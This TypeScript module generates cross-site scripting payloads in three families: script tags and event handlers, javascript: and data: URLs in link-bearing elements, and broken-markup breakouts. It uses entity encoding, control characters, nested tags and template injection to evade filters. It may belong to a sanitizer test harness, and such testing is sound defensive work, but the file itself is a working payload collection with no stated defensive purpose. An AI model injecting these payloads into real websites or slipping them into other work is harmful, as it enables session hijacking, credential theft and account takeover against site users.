// Script by element, by address, by broken markup: what runs where nothing cleans.
import type { Family, Recipe } from './payload.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const entities = (text: string) => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');
const hexEntities = (text: string) =>
  [...text].map((char) => `&#x${char.codePointAt(0)?.toString(16)}`).join(';');

const elements: Recipe[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<SCRIPT >${script}</SCRIPT\t>`,
  (script) => `<script/x>${script}</script x>`,
  (script) => `<script type=module>${script}</script>`,
  (script) => `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
  (script) => `<script src=data:;base64,${base64(script)}></script>`,
  (script) => `<scr<script>ipt>${script}</script>`,
  (script) => `<<script>${script}//<</script>`,
  (script) => `<script>//--><!--\n${script}\n//--></script>`,
  (script) => `<script\u000c>${script}</script>`,
  (script) => `<svg><script>${entities(script)}</script></svg>`,
  (script) => `<svg><script href="data:text/javascript,${encodeURIComponent(script)}" /></svg>`,
  (script) => `<svg><script xlink:href="data:,${encodeURIComponent(script)}"></script></svg>`,
  (script) => `<math><mtext><script>${script}</script></mtext></math>`,
  (script) => `<table><script>${script}</script></table>`,
  (script) => `<select><script>${script}</script></select>`,
  (script) =>
    `<template shadowrootmode=open><script>${script}</script><img src=x:x onerror="${script}"></template>`,
  (script) =>
    `<object data="data:text/html,<script>${script.replaceAll('top.', 'self.')}</script>"></object>`,
  (script) =>
    `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`)}">`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe srcdoc="&lt;img src=x:x onerror=${script}&gt;"></iframe>`,
  (script) => `<iframe srcdoc="<svg onload=${script}>"></iframe>`,
  (script) => `<iframe src="data:text/html,<script>${script}</script>"></iframe>`,
  (script) => `<link rel=import href="data:text/html,<script>${script}</script>">`,
  (script) => `<link rel=stylesheet href=x:x onerror="${script}">`,
  (script) => `<style onload="${script}">x{}</style>`,
  (script) => `<style><img src="</style><img src=x:x onerror=${script}//">`,
  (script) => `<input type=image src=x:x onerror="${script}">`,
  (script) => `<input autofocus onfocus="${script}"><input autofocus>`,
  (script) => `<video><source onerror="${script}" src=x:x></video>`,
  (script) => `<picture><source srcset=x:x><img src=x:x onerror="${script}"></picture>`,
  (script) => `<body onload="${script}">`,
  (script) => `<body onpageshow="${script}">`,
  (script) =>
    `<dialog open onclose="${script}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  (script) => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle="${script}">y</p>`,
];

const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href="${address}" target=_top>x</a>`,
  (address) => `<a href="${address}" target=_blank rel=opener>x</a>`,
  (address) =>
    `<map name=m><area href="${address}" shape=default></map><img usemap=#m src=x:x width=40 height=9>`,
  (address) => `<form action="${address}"><input type=submit value=x></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) =>
    `<svg><animate xlink:href=#a attributeName=href values="${address}" /><a id=a><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x" /></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href=x>x</a>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<img src="${address}" lowsrc="${address}" dynsrc="${address}">`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
  (address) => `<div style="background:url('${address}')">x</div>`,
];

const addresses: ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `&#1;javascript:${script}`,
  (script) => `java&#9;script:${script}`,
  (script) => `java&#10;script&#13;:${script}`,
  (script) => `javascript&colon;${script}`,
  (script) => `${entities('javascript:')}${script}`,
  (script) => `${hexEntities('javascript')};:${script}`,
  (script) => `javascript://%0a${script}`,
  (script) => `data:text/html;base64,${base64(`<script>${script}</script>`)}`,
  (script) => `vbscript:msgbox ${script.length}`,
];

const encodedAddresses: Recipe[] = places.flatMap((place) =>
  addresses.map(
    (address): Recipe =>
      (script) =>
        place(address(script)),
  ),
);

const brokenMarkup: Recipe[] = [
  (script) => `"><img src=x:x onerror="${script}">`,
  (script) => `'><svg onload=${script}>`,
  (script) => `</title></textarea></style></script><img src=x:x onerror="${script}">`,
  (script) => `<img """><img src=x:x onerror="${script}">">`,
  (script) => `<img src='x:x\u0000' onerror\u0000="x" onerror="${script}">`,
  (script) => `<img src=x:x\nonerror\n=\n"${script}">`,
  (script) => `<img/src=x:x/onerror=${script}>`,
  (script) => `<img src="x:x"onerror="${script}">`,
  (script) => `<img src=x:x onerror=${script} //`,
  (script) => `<!--><img src=x:x onerror="${script}">-->`,
  (script) => `<!---><img src=x:x onerror="${script}">-->`,
  (script) => `<!-- --!><img src=x:x onerror="${script}"> -->`,
  (script) => `<![CDATA[><img src=x:x onerror="${script}">]]>`,
  (script) => `<?xml ?><img src=x:x onerror="${script}">`,
  (script) => `<!DOCTYPE x><img src=x:x onerror="${script}">`,
  (script) => `</p ignored><img src=x:x onerror="${script}">`,
  (script) => `<a title="</a><img src=x:x onerror=${script}//">x</a>`,
  (script) => `<p title='"><img src=x:x onerror="${script}">'>x`,
  (script) => `{{constructor.constructor("${script}")()}}<img src=x:x onerror="${script}">`,
  (script) => `\u00bcscript\u00be${script}\u00bc/script\u00be<img src=x:x onerror="${script}">`,
];

export const scriptFamilies: Family[] = [
  { name: 'script by element', recipes: elements },
  { name: 'script by address', recipes: encodedAddresses },
  { name: 'broken markup', recipes: brokenMarkup },
];
